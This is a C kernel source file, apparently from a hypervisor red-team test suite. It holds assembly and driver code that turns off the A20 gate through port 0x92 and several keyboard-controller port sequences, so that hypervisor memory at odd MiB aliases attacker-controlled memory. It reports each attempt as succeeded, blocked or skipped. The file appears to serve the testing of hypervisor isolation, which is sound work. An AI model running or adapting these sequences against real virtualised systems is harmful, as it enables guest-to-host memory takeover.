// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * A20 off: the chipset clears bit 20 of every address of CPU 0, so the hypervisor's code and tables
 * at odd MiB are replaced by what the attacker has one MiB below. To see it and live, a piece of
 * code of ours turns A20 off, looks, and turns it on again, while all that the CPU touches lies in
 * even MiB: its tables, its code, its lists.
 */
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/kdebug.h>
#include <linux/notifier.h>
#include <linux/smp.h>
#include <linux/string.h>

#include <asm/nospec-branch.h>
#include <asm/ptrace.h>

#include "redteam/root/attack.h"

/*
 * Position-independent. RDI: list of (port, byte) pairs, 16 bits each, to the first port 0, with
 * WIDE in the port for an OUT of 32 bits; RSI: a second one; RDX: what to look at between the two.
 * No stack but the return address, which is read when A20 is on again.
 */
asm(".pushsection .rodata, \"a\"\n"
    "a20_code:\n"
    "	endbr64\n"
    "	mov %rdx, %r8\n"
    "	mov $1, %r10d\n"
    "1:	movzwl (%rdi), %edx\n"
    "	test %edx, %edx\n"
    "	jz 2f\n"
    "	movzwl 2(%rdi), %eax\n"
    "	add $4, %rdi\n"
    "	btr $15, %edx\n"
    "	jc 4f\n"
    "	out %al, %dx\n"
    "	jmp 1b\n"
    "4:	out %eax, %dx\n"
    "	jmp 1b\n"
    "2:	dec %r10d\n"
    "	js 3f\n"
    "	mov (%r8), %r9\n"
    "	mov %rsi, %rdi\n"
    "	jmp 1b\n"
    "3:	mov %r9, %rax\n"
    "	ret\n"
    "	int3\n"
    "a20_code_faulted:\n"
    "	mov $-1, %rax\n"
    "	ret\n"
    "	int3\n"
    "a20_code_end:\n"
    ".popsection\n");

extern const u8 a20_code[], a20_code_faulted[], a20_code_end[];

struct a20_ports {
	u16 off[8], on[8];
};

#define WIDE 0x8000

static const struct a20_ports a20_ways[] = {
	{ { 0x92, 0x00 }, { 0x92, 0x02 } },
	{ { 0x64, 0xd1, 0x60, 0xdd }, { 0x64, 0xd1, 0x60, 0xdf } },
	{ { 0x64, 0xdd }, { 0x64, 0xdf } },
	/* another command in between */
	{ { 0x64, 0xd1, 0x64, 0xae, 0x60, 0xdd }, { 0x64, 0xd1, 0x60, 0xdf } },
	{ { 0x64, 0xd1, WIDE | 0x60, 0xdd }, { 0x64, 0xd1, 0x60, 0xdf } },
};

#define CODE_INDEX 0
#define LIST_INDEX 1
#define LOOK_INDEX 2
#define EVEN_MARK 0x2020202020202020ull
#define ODD_MARK 0x1010101010101010ull

static u64 a20_code_at;

/* An OUT that the hypervisor answers with #GP is in no exception table. */
static int a20_fault(struct notifier_block *block, unsigned long why, void *data)
{
	struct die_args *args = data;
	u64 offset = args->regs->ip - a20_code_at;

	if (why != DIE_GPF || !a20_code_at || offset >= a20_code_end - a20_code)
		return NOTIFY_DONE;
	args->regs->ip = a20_code_at + (a20_code_faulted - a20_code);
	return NOTIFY_STOP;
}

static struct notifier_block a20_notifier = { .notifier_call = a20_fault };

struct a20_try {
	struct window window;
	void *code, *look;
	struct a20_ports *ports;
	u64 seen;
};

static u64 a20_call(void *code, const void *off, const void *on, const void *look)
{
	u64 result;

	/* To our own page: no speculation to fear. */
	asm volatile(ANNOTATE_RETPOLINE_SAFE "call *%[code]"
		     : "=a"(result), "+D"(off), "+S"(on), "+d"(look), ASM_CALL_CONSTRAINT
		     : [code] "b"(code)
		     : "r8", "r9", "r10", "memory", "cc");
	return result;
}

/* On CPU 0, the one whose A20 pin QEMU and PCs drive. */
static void a20_on_cpu(void *data)
{
	struct a20_try *try = data;
	unsigned long flags;

	local_irq_save(flags);
	window_enter(&try->window);
	try->seen = a20_call(try->code, try->ports->off, try->ports->on, try->look);
	window_leave(&try->window);
	local_irq_restore(flags);
}

static struct outcome a20_off(const struct attack *attack)
{
	struct a20_try try = {};
	void *code, *list, *even, *odd;

	if (!window_create(&try.window))
		return outcome(ERROR, "no memory");
	code = window_page(&try.window);
	list = window_page(&try.window);
	even = window_page(&try.window);
	odd = even + SZ_1M;
	memcpy(code, a20_code, a20_code_end - a20_code);
	memcpy(list, &a20_ways[attack->argument], sizeof(a20_ways[0]));
	*(u64 *)even = EVEN_MARK;
	*(u64 *)odd = ODD_MARK;
	try.code = window_map(&try.window, CODE_INDEX, virt_to_phys(code));
	try.ports = window_map(&try.window, LIST_INDEX, virt_to_phys(list));
	try.look = window_map(&try.window, LOOK_INDEX, virt_to_phys(odd));

	a20_code_at = (u64)try.code;
	register_die_notifier(&a20_notifier);
	smp_call_function_single(0, a20_on_cpu, &try, 1);
	unregister_die_notifier(&a20_notifier);
	a20_code_at = 0;
	window_destroy(&try.window);

	if (try.seen == EVEN_MARK)
		return outcome(SUCCEEDED, "the odd MiB showed the even one");
	if (try.seen == ~0ull)
		return outcome(BLOCKED, "#GP");
	if (try.seen != ODD_MARK)
		return outcome(ERROR, "saw %#llx", try.seen);
	return below_hypervisor() ? outcome(BLOCKED, "A20 stayed on")
				  : outcome(SKIPPED, "bare: this machine has no A20 there");
}

const struct attack a20_attacks[] = {
	{ "a20-port92", "hypervisor memory replaced by ours, one MiB below", a20_off, 0 },
	{ "a20-keyboard-output", "hypervisor memory replaced by ours, one MiB below", a20_off, 1 },
	{ "a20-keyboard-command", "hypervisor memory replaced by ours, one MiB below", a20_off, 2 },
	{ "a20-keyboard-split", "hypervisor memory replaced by ours, one MiB below", a20_off, 3 },
	{ "a20-keyboard-wide", "hypervisor memory replaced by ours, one MiB below", a20_off, 4 },
	{}
};
